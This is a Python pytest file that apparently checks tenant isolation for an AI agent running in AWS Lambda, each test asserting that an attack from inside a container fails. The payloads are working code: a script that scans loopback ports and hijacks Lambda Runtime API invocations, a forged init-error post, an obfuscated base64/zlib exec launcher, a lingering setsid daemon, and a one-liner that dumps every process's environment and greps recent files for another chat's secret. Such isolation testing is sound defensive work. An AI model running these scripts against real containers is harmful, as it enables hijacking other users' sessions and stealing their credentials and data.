"""Another conversation's words, from inside a container: by the Runtime API, by credentials, by what a container kept.

Any process in a Lambda container can speak to the Runtime API on loopback: it can answer for the function and take its
next invocation. Each attack is carried out by the agent's Bash in strict mode.
"""

from __future__ import annotations

import base64
import itertools
import os
import sys
import zlib
from collections.abc import Iterator

import pytest

from stepgram.embedded.packages import shared_cache
from tests.attacks.strict_stack import StrictStack, strict_stack

STOPPED_BY = (
    "Lambda's tenant isolation mode: the tenant is the conversation, so no container ever serves two, and there is no "
    "other invocation to take. Credentials are those of one session's folder, for 25 minutes."
)

pytestmark = [
    pytest.mark.skipif(
        sys.platform != "linux" or os.geteuid() != 0, reason="containers have users of their own under root alone"
    ),
    pytest.mark.timeout(600),
]

_chats = itertools.count(720_001)
SECRET = "the-other-chats-secret-words"

TAKEOVER = """
import http.client, json, sys, threading, time

found, ports = [], []
def take(port, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            api = http.client.HTTPConnection("127.0.0.1", port, timeout=max(0.1, end - time.monotonic()))
            api.request("GET", "/2018-06-01/runtime/invocation/next")
            answer = api.getresponse()
            body = answer.read().decode("utf-8", "replace")
            number = answer.headers.get("Lambda-Runtime-Aws-Request-Id")
            if number:
                found.append(body)
                api.request("POST", f"/2018-06-01/runtime/invocation/{number}/response", '{"outcome": "mine"}')
                api.getresponse().read()
        except OSError:
            return

def listening():
    with open("/proc/net/tcp") as table:
        for line in list(table)[1:]:
            fields = line.split()
            address, port = fields[1].split(":")
            if fields[3] == "0A" and address in ("0100007F", "00000000"):
                yield int(port, 16)

seconds = float(sys.argv[1])
threads = [threading.Thread(target=take, args=(port, seconds), daemon=True) for port in set(listening())]
for thread in threads: thread.start()
for thread in threads: thread.join(seconds)
print("ports tried:", len(threads), "taken:", json.dumps(found)[:4000])
"""


def run(code: str, *arguments: str) -> str:
    """The message that has the agent run a program of ours."""
    packed = base64.b64encode(zlib.compress(code.encode())).decode()
    start = f"import base64, zlib; exec(zlib.decompress(base64.b64decode('{packed}')))"
    return f'!bash python3 -c "{start}" {" ".join(arguments)}'


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[StrictStack]:
    home = tmp_path_factory.mktemp("strict")
    with strict_stack(shared_cache(), home, ApprovalTools="none", MessagesPerMinute="0") as running:
        yield running


@pytest.fixture
def chat() -> int:
    return next(_chats)


def test_whoever_takes_invocations_of_the_runtime_api_gets_no_other_conversations(
    stack: StrictStack, chat: int
) -> None:
    other = next(_chats)
    stack.ask(other, "hello")

    name = stack.say(chat, run(TAKEOVER, "20"))
    answers = [stack.ask(other, f"{SECRET} {number}") for number in range(3)]
    thief = stack.wait(chat, name)

    assert [answer["status"] for answer in answers] == ["SUCCEEDED"] * 3
    for number, answer in enumerate(answers):
        assert f"{SECRET} {number}" in answer["text"]
    assert "ports tried:" in thief["text"], thief
    assert "ports tried: 0" not in thief["text"]
    assert SECRET not in "".join(thief["texts"])


def test_a_thief_that_stays_behind_gets_nothing_later_either(stack: StrictStack, chat: int) -> None:
    """A daemon waits for the next invocation of its container; the container's next one is the thief's own chat's."""
    other = next(_chats)
    daemon = run(TAKEOVER, "60").removeprefix("!bash ")
    stack.ask(chat, f"!bash (setsid {daemon} > loot 2>&1 &) ; echo left")

    answers = [stack.ask(other, f"{SECRET} {number}") for number in range(2)]
    looked = stack.ask(chat, "!bash cat loot; echo looked")

    assert [answer["status"] for answer in answers] == ["SUCCEEDED"] * 2
    assert "looked" in looked["text"], looked
    assert SECRET not in looked["text"]


def test_an_init_error_that_was_forged_harms_the_forgers_own_run_alone(stack: StrictStack, chat: int) -> None:
    forge = """
import http.client
with open("/proc/net/tcp") as table:
    ports = {int(f[1].split(":")[1], 16) for f in map(str.split, list(table)[1:]) if f[3] == "0A"}
for port in ports:
    try:
        api = http.client.HTTPConnection("127.0.0.1", port, timeout=2)
        api.request("POST", "/2018-06-01/runtime/init/error", "{}")
        api.getresponse().read()
    except OSError:
        pass
"""
    other = next(_chats)
    stack.ask(other, "hello")

    stack.ask(chat, run(forge))

    assert "message 2 of this conversation" in stack.ask(other, SECRET)["text"]
    assert stack.ask(chat, "and now")["status"] == "SUCCEEDED"


READ_OTHERS = (
    "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline; done 2>/dev/null; "
    "find / -xdev -newermt '-10 minutes' -type f -readable -not -path '/proc/*' 2>/dev/null | head -500 | "
    "xargs -d '\\n' grep -l the-other-chats-secret 2>/dev/null; echo looked"
)


def test_nothing_of_another_conversation_is_on_the_disk_or_among_the_processes(stack: StrictStack, chat: int) -> None:
    other = next(_chats)
    stack.ask(other, f"!bash echo {SECRET} > file; echo {SECRET} > /tmp/left; echo kept")

    found = stack.ask(chat, f"!bash {READ_OTHERS}")

    assert "looked" in found["text"], found
    assert SECRET not in found["text"]
    assert "/left" not in found["text"]
